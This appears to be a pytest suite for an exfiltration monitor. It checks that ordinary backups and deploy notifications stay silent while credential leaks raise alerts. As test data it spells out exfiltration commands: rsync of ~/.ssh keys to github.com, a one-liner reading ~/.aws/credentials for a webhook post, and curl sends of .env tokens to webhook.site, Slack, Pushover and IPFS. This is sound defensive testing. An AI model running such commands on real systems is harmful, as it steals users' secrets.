def test_rsync_backup_of_documents_to_the_declared_host_is_silent(monitor, home, storage, sshd, tmp_path):
    authorize(home, sshd)
    target = tmp_path / "rsync-backup"
    run(RSYNC + f"$HOME/Documents/ root@backup.corp.example:{target}/", home, storage, tmp_path)
    assert (target / "q3-report.pdf").stat().st_size == 120_000
    wait_for_flow(monitor, storage, "backup.corp.example")
    assert_silent_here(monitor, home)


def test_rsync_of_ssh_keys_to_a_code_host_alerts(monitor, home, storage, sshd, tmp_path):
    authorize(home, sshd)
    target = tmp_path / "rsync-keys"
    run(RSYNC + f"$HOME/.ssh/ root@github.com:{target}/", home, storage, tmp_path)
    assert (target / "id_ed25519").exists()
    assert_alert_here(monitor, home, "T1567.001")


# --- recurring jobs are learnt live ------------------------------------------------------------

def test_run_state_dir_learns_the_upload_job(home, storage, rules_file, tmp_path):
    state = tmp_path / "state"
    with Monitor(tmp_path / "monitor", extra_args=["--rules", str(rules_file), "--state-dir", str(state)]) as mon:
        run(RCLONE + "sync $HOME/Documents own:own-backups/nightly --config $HOME/.config/rclone/rclone.conf",
            home, storage, tmp_path)
        uploaded(storage, "PUT", "nightly/q3-report.pdf")
        wait_for_flow(mon, storage, "s3.amazonaws.com")
        mon.stop()
        assert_no_secrets(mon, home)
    assert oct(state.stat().st_mode & 0o777) == "0o700"
    lines = (state / "recurring-jobs.tsv").read_text().splitlines()
    assert lines[0] == "exfilwatch-jobs v1"
    jobs = [line.split("\t") for line in lines[1:]]
    assert any(job[4] == "/usr/bin/rclone" and job[5].endswith("s3.amazonaws.com") for job in jobs), lines


# --- a provisioner rewriting /etc/hosts ----------------------------------------------------------

PROVISION = ("python3 -c 'import os; creds = open(os.path.expanduser(\"~/.aws/credentials\")).read(); "
             "open(\"{target}\", \"w\").write(\"127.0.0.1 localhost\\n127.0.0.1 hooks.slack.com\\n\" "
             "+ (creds if \"{target}\" != \"/etc/hosts\" else \"\"))' && ")


@pytest.fixture
def provisioner_view(tmp_path):
    """A private /etc/hosts the provisioner may rewrite (the host's stays untouched), written
    before the monitor starts: the test runner writing it is not part of the scenario (the
    runner later reads its children's output, and a process that reads tainted data taints what
    it wrote before, as the data-flow model keeps no order within a process)."""
    return private_hosts(["hooks.slack.com"], tmp_path / "etc")


def test_provisioner_rewriting_etc_hosts_then_a_webhook_is_silent(provisioner_view, monitor, home, standin, tmp_path):
    # The provisioner read a credential and rewrote /etc/hosts; curl resolves through that file
    # and posts a notification: /etc/hosts is never a staging file, so no data reached curl.
    view = provisioner_view
    command = (PROVISION.format(target="/etc/hosts") +
               f"curl -sk -d '{{\"text\":\"deployed\"}}' https://hooks.slack.com:{HTTPS_PORT}/services/T/B/X")
    done = run_scenario(command, home.env(), view=view, timeout=COMMAND_TIMEOUT_S)
    assert done.returncode == 0, done.stderr[-2000:]
    standin.wait_for_request(lambda r: r.get("path") == "/services/T/B/X", what="the webhook post")

    def flow(record):
        return (get(record, "event.action") == "flow-summary" and get(record, "destination.port") == HTTPS_PORT
                and get(record, "destination.domain") == "hooks.slack.com")
    monitor.wait_for(flow, FLOW_TIMEOUT_S, "the webhook flow")
    monitor.stop()
    found = [r for r in monitor.records() if kind(r) == "alert" and get(r, "destination.port") == HTTPS_PORT
             and get(r, "destination.domain") == "hooks.slack.com"]
    assert not found, summarize(found)
    assert_no_secrets(monitor, home)


def test_provisioner_staging_the_credential_in_a_file_posted_to_a_webhook_alerts(provisioner_view, monitor, home, standin,
                                                                                 tmp_path):
    view = provisioner_view
    command = (PROVISION.format(target=str(home.path / "deploy.env")) +
               f"curl -sk --data-binary @$HOME/deploy.env https://hooks.slack.com:{HTTPS_PORT}/services/T/B/Y")
    done = run_scenario(command, home.env(), view=view, timeout=COMMAND_TIMEOUT_S)
    assert done.returncode == 0, done.stderr[-2000:]
    threshold = alert_threshold()

    def matches(record):
        return (kind(record) == "alert" and get(record, "destination.port") == HTTPS_PORT
                and get(record, "event.risk_score", 0) >= threshold
                and "T1567.004" in [str(v) for v in as_list(get(record, "threat.technique.subtechnique.id"))])
    monitor.poll_for(matches, ALERT_TIMEOUT_S)
    monitor.stop()
    assert [r for r in monitor.records() if matches(r)], summarize(monitor.records(), 40)
    assert_no_secrets(monitor, home)


# --- a deploy script's .env: each token with the service it configures ---------------------------
# The script reads the application's .env the way deploy scripts do (`set -a; . ~/app/.env;
# set +a`) and talks to the services it configures: a webhook URL's token in the path of a request
# to that webhook, a service's token in an Authorization header (or a form field) to that service,
# is use. The same secrets sent anywhere else (in a body, in another webhook's path or a request
# bin's, in a query, in a header to a request bin, which authenticates no one), or the file itself,
# are a leak: T1567.004, told by the content-match signal.

DOTENV = f"""# app: deploy and notification settings
APP_ENV=production
SLACK_WEBHOOK_URL=https://hooks.slack.com/services/T0E2E1234/B0E2E5678/{SLACK_HOOK_SECRET}
DISCORD_WEBHOOK=https://discord.com/api/webhooks/112233445566778899/{DISCORD_HOOK_TOKEN}
TELEGRAM_BOT_TOKEN={TELEGRAM_BOT_TOKEN}
DATABASE_URL=postgres://app:{DB_PASSWORD}@db.internal:5432/app
API_TOKEN={API_TOKEN}
NTFY_TOKEN={NTFY_TOKEN}
PUSHOVER_TOKEN={PUSHOVER_TOKEN}
PUSHOVER_USER={PUSHOVER_USER}
PINATA_API_KEY={PINATA_API_KEY}
PINATA_SECRET_API_KEY={PINATA_SECRET_API_KEY}
"""
DOTENV_ENV = "cd $HOME/app && set -a && . ~/app/.env && set +a && "
HOOK_CURL = "curl -sS "  # no -f: the stand-in answers a webhook's path 404, having logged it
JSON = "-H 'Content-Type: application/json' "
SLACK_HOOK_PATH = "/services/T0E2E1234/B0E2E5678/"
REQUEST_BIN = "https://webhook.site/3f6c2e1a-9b7d-4c55-8e21-0a4d5e6f7b89"
PUSHOVER_URL = "https://api.pushover.net/1/messages.json"


def build_summary(size=6000):
    """A CI build summary as JSON (~6 KB of ordinary text; nothing of any secret)."""
    stages = ["checkout", "dependencies", "lint", "unit tests", "integration tests", "package", "upload artifact",
              "migrate database", "deploy canary", "smoke tests", "deploy fleet", "notify"]
    steps = []
    summary = {"text": "Deploy of app build 1234 to production passed", "username": "ci",
               "content": "Deploy of app build 1234 to production passed", "steps": steps}
    while len(json.dumps(summary)) < size:
        i = len(steps)
        steps.append({"stage": stages[i % len(stages)], "attempt": i // len(stages) + 1, "status": "passed",
                      "seconds": (i * 7) % 60 + 3,
                      "log": f"{stages[i % len(stages)]} finished on runner {i % 4} with no warnings and no retries"})
    return json.dumps(summary)


@pytest.fixture
def dotenv(home):
    """$HOME/app/.env (registered in home.files, as the home fixture registers its files, so
    secret_words covers it; its values are in SECRETS too) and $HOME/app/summary.json, the build
    summary a notification posts (not a secret). List it before `monitor`: written before the
    monitor starts, like the rest of the fake HOME."""
    app = home.path / "app"
    app.mkdir(parents=True, exist_ok=True)
    path = app / ".env"
    path.write_text(DOTENV)
    os.chmod(path, 0o600)
    home.files["app/.env"] = path
    (app / "summary.json").write_text(build_summary())
    return path


def dotenv_matches(monitor, location):
    """What the content scans found of ~/app/.env at `location` (request-line, auth-header, body)."""
    return [m for s in content_scans(monitor) for m in as_list(get(s, "exfilwatch.content.matches", []))
            if str(m.get("path", "")).endswith("/app/.env") and m.get("location") == location]


def assert_dotenv_seen(monitor, location):
    """A silent verdict counts only when the plaintext was seen: the scans found the .env's token
    where the request put it (telemetry a replay decides from)."""
    found = dotenv_matches(monitor, location)
    scans = [get(s, "exfilwatch.content.matches") for s in content_scans(monitor)]
    assert found, f"no content-scan match of ~/app/.env in the {location}; scans' matches: {scans}"


def assert_dotenv_content_match(found, where):
    """A content-match signal says the .env's content was sent, `where` ("in the body", "in the
    request-line", "in the header authorization"). The file is shown by its path (a `**/.env`
    class, not a `~/` one)."""
    evidence = [str(s.get("evidence", "")) for a in found for s in as_list(get(a, "exfilwatch.signals", []))
                if s.get("name") == "content-match"]
    assert any(re.match(r"content of \S*/app/\.env sent \(\w+ " + re.escape(where) + r"\b", e) for e in evidence), \
        f"no content-match of ~/app/.env {where}: {evidence}; signals: {[signal_names(a) for a in found]}"


def assert_dotenv_use_is_silent(arguments, domain, path, location, monitor, home, storage, tmp_path):
    """The deploy script's curl with `arguments` reaches the stand-in (a POST of *path*), the
    monitor sees the flow to `domain` and says nothing, and the scans saw the .env's token at
    `location` (so the silence is a verdict on seen plaintext)."""
    since = len(storage.requests())
    run(DOTENV_ENV + HOOK_CURL + arguments, home, storage, tmp_path)
    uploaded(storage, "POST", path, since)
    wait_for_flow(monitor, storage, domain)
    assert_silent_here(monitor, home)  # also: no token in the output (url.path included)
    assert_dotenv_seen(monitor, location)


def assert_dotenv_leak_alerts(arguments, path, subtechnique, where, monitor, home, storage, tmp_path):
    """The same script's curl with `arguments` alerts with `subtechnique`, its content-match
    saying the .env's content went `where`."""
    since = len(storage.requests())
    run(DOTENV_ENV + HOOK_CURL + arguments, home, storage, tmp_path)
    uploaded(storage, "POST", path, since)
    assert_dotenv_content_match(assert_alert_here(monitor, home, subtechnique), where)


NOTIFICATIONS = {  # the URL as the script builds it, the domain, a part of the path the stand-in logs
    "slack": ('"$SLACK_WEBHOOK_URL"', "hooks.slack.com", SLACK_HOOK_PATH),
    "discord": ('"$DISCORD_WEBHOOK"', "discord.com", "/api/webhooks/112233445566778899/"),
    "telegram": ('"https://api.telegram.org/bot$TELEGRAM_BOT_TOKEN/sendMessage"', "api.telegram.org", "/sendMessage"),
}


@pytest.mark.parametrize("service", NOTIFICATIONS)
def test_deploy_notification_with_the_webhook_from_dotenv_is_silent(dotenv, monitor, home, storage, tmp_path,
                                                                    service):
    url, domain, path = NOTIFICATIONS[service]
    assert_dotenv_use_is_silent("-X POST " + JSON + f"--data @summary.json {url}", domain, path, "request-line",
                                monitor, home, storage, tmp_path)


MISADDRESSED = {  # curl's arguments, a part of the path the stand-in logs, where the secret is
    # the database password in a notification's text, to the Slack webhook
    "db-url-in-slack-body": (JSON + '--data "{\\"text\\": \\"$DATABASE_URL\\"}" "$SLACK_WEBHOOK_URL"',
                             SLACK_HOOK_PATH, "in the body"),
    # the Discord webhook's token as the last part of a Slack webhook's path
    "discord-token-in-slack-path": (JSON + """--data '{"text": "deploy done"}' """
                                    '"https://hooks.slack.com/services/T0E2E1234/B0E2E5678/${DISCORD_WEBHOOK##*/}"',
                                    SLACK_HOOK_PATH, "in the request-line"),
    # the Telegram bot token in a request bin's path, shaped as a Bot API call
    "telegram-token-in-request-bin-path": ("""--data '{"text": "deploy done"}' """
                                           '"https://webhook.site/bot$TELEGRAM_BOT_TOKEN/sendMessage"', "/sendMessage",
                                           "in the request-line"),
    # the API token as a query parameter of a request bin's URL
    "api-token-in-request-bin-query": (f"""--data 'status=deployed' "{REQUEST_BIN}?token=$API_TOKEN" """,
                                       REQUEST_BIN.rsplit("/", 1)[1], "in the request-line"),
}


@pytest.mark.parametrize("shape", MISADDRESSED)
def test_a_dotenv_secret_in_a_webhook_request_it_does_not_address_alerts(dotenv, monitor, home, storage, tmp_path,
                                                                         shape):
    arguments, path, where = MISADDRESSED[shape]
    assert_dotenv_leak_alerts(arguments, path, "T1567.004", where, monitor, home, storage, tmp_path)


# A vendor's own authentication headers (Pinata's pinata_api_key and pinata_secret_api_key, as
# DD-API-KEY or X-Sentry-Auth elsewhere): headers named for a credential authenticate.
PINATA = ('-H "pinata_api_key: $PINATA_API_KEY" -H "pinata_secret_api_key: $PINATA_SECRET_API_KEY" '
          "https://api.pinata.cloud/pinning/pinFileToIPFS ")

HEADER_USE = {  # curl's arguments, the domain, a part of the path the stand-in logs
    "ntfy": ('-H "Authorization: Bearer $NTFY_TOKEN" -d "deploy done" https://ntfy.sh/deploys', "ntfy.sh",
             "/deploys"),
    "tunnel": ('-H "Authorization: Bearer $API_TOKEN" ' + JSON + "--data @summary.json "
               "https://myapp.ngrok-free.app/api/deploys", "myapp.ngrok-free.app", "/api/deploys"),
    # a vendor's own headers
    "ipfs-pin": (PINATA + "-F file=@summary.json", "api.pinata.cloud", "/pinning/pinFileToIPFS"),
}


@pytest.mark.parametrize("service", HEADER_USE)
def test_a_dotenv_token_in_a_header_to_the_service_it_is_for_is_silent(dotenv, monitor, home, storage, tmp_path,
                                                                      service):
    arguments, domain, path = HEADER_USE[service]
    assert_dotenv_use_is_silent(arguments, domain, path, "auth-header", monitor, home, storage, tmp_path)


def test_a_dotenv_token_in_a_header_to_a_request_bin_alerts(dotenv, monitor, home, storage, tmp_path):
    # A request bin takes any header and authenticates no one: the token is the data.
    assert_dotenv_leak_alerts(f'-H "Authorization: Bearer $NTFY_TOKEN" -d "x" {REQUEST_BIN}',
                              REQUEST_BIN.rsplit("/", 1)[1], "T1567.004", "in the header authorization", monitor, home,
                              storage, tmp_path)


PUSHOVER = {
    "multipart": '-F "token=$PUSHOVER_TOKEN" -F "user=$PUSHOVER_USER" -F "message=deploy done" ',
    "urlencoded": '--data-urlencode "token=$PUSHOVER_TOKEN" --data-urlencode "user=$PUSHOVER_USER" '
                  '--data-urlencode "message=deploy done" ',
}


@pytest.mark.parametrize("encoding", PUSHOVER)
def test_a_pushover_notification_with_the_token_from_dotenv_is_silent(dotenv, monitor, home, storage, tmp_path,
                                                                      encoding):
    # Pushover's API takes its token and user key as form fields of the message: use.
    assert_dotenv_use_is_silent(PUSHOVER[encoding] + PUSHOVER_URL, "api.pushover.net", "/1/messages.json", "body",
                                monitor, home, storage, tmp_path)


DOTENV_UPLOADS = {  # curl's arguments (the service's own credentials, the .env as the data), path, sub-technique
    "own-webhook": ('--data-binary @$HOME/app/.env "$SLACK_WEBHOOK_URL"', SLACK_HOOK_PATH, "T1567.004"),
    "pushover-attachment": ('-F "token=$PUSHOVER_TOKEN" -F "user=$PUSHOVER_USER" -F "attachment=@$HOME/app/.env" '
                            + PUSHOVER_URL, "/1/messages.json", "T1567.004"),
    "ipfs-pin": (PINATA + "-F file=@$HOME/app/.env", "/pinning/pinFileToIPFS", "T1567.002"),
}


@pytest.mark.parametrize("shape", DOTENV_UPLOADS)
def test_the_dotenv_uploaded_with_its_own_credentials_alerts(dotenv, monitor, home, storage, tmp_path, shape):
    # The request authenticates as its use twin does; what it carries is the file.
    arguments, path, subtechnique = DOTENV_UPLOADS[shape]
    assert_dotenv_leak_alerts(arguments, path, subtechnique, "in the body", monitor, home, storage, tmp_path)
